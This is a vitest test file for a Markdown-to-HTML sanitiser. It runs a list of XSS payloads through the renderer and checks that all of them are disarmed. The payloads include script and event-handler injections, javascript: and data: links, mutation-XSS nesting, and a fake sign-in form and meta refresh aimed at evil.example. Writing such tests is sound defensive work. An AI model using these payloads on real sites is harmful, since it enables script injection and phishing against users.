import { describe, expect, it } from 'vitest';
import { lex, toHtml } from './lex';
import { sanitiseAnswer, sanitiseTypeset } from './sanitise';

const drawn = (markdown: string) => {
  const host = document.createElement('div');
  host.innerHTML = String(sanitiseAnswer(lex(markdown, {}).map(toHtml).join('')));
  return host;
};

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '<form action="https://evil.example"><input name=code><button>Sign in</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '$<img src=x onerror=alert(1)>$',
  '$$\n"><script>alert(1)</script>\n$$',
  '<div id=app name=body class="sr-only act" data-testid=composer-send>x</div>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video src=https://evil.example/v autoplay></video><audio src=https://evil.example/a></audio>',
];
const TAGS =
  'a abbr b blockquote br caption code del details div dd dl dt em h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var';

describe('sanitiseAnswer', () => {
  it.each(PAYLOADS)('disarms %s', (payload) => {
    for (const element of drawn(payload).querySelectorAll('*')) {
      expect(TAGS.split(' ')).toContain(element.localName);
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^id$|^name$|^srcdoc$|^action$|^data-testid$/);
        if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:)/i);
        if (name === 'src') expect(value).toMatch(/^data:image\//);
        if (name === 'class')
          expect(value).toMatch(
            /^(?:language-[\w+#.-]+|math|math-wide|table|table-bar|table-scroll|image-link|cite| )+$/,
          );
      }
    }
  });

  it('makes a link of an image from elsewhere, so that nothing is fetched', () => {
    const host = drawn('![cat](https://example.com/cat.png)');
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('a.image-link')?.getAttribute('href')).toBe('https://example.com/cat.png');
    expect(drawn('<img src="https://example.com/cat.png">').querySelector('img')).toBeNull();
  });

  it('draws a bitmap that the answer itself carries', () => {
    expect(drawn('![dot](data:image/png;base64,AAAA)').querySelector('img')?.alt).toBe('dot');
  });

  it('opens links apart and gives them no way back', () => {
    const link = drawn('[x](https://example.com)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toContain('noopener');
  });

  it('keeps what Markdown draws', () => {
    const host = drawn('- [x] done\n\n| a |\n|:-:|\n| `1` |\n\n**b** ~~c~~ $x$');
    for (const part of [
      'input[type=checkbox][disabled]',
      '.table > .table-scroll > table',
      'td code',
      'strong',
      'del',
      '.math[data-tex=x]',
    ])
      expect(host.querySelector(part), part).not.toBeNull();
  });
});

describe('sanitiseTypeset', () => {
  it('keeps classes and styles of KaTeX and drops what acts', () => {
    const html = String(
      sanitiseTypeset(
        '<span class="katex" style="height:1em">x</span><a href="https://e.org">y</a><script>z</script><img src=x onerror=alert(1)>',
      ),
    );
    expect(html).toContain('class="katex"');
    expect(html).toContain('style="height:1em"');
    expect(html).not.toMatch(/<a|<script|<img|onerror/);
  });
});
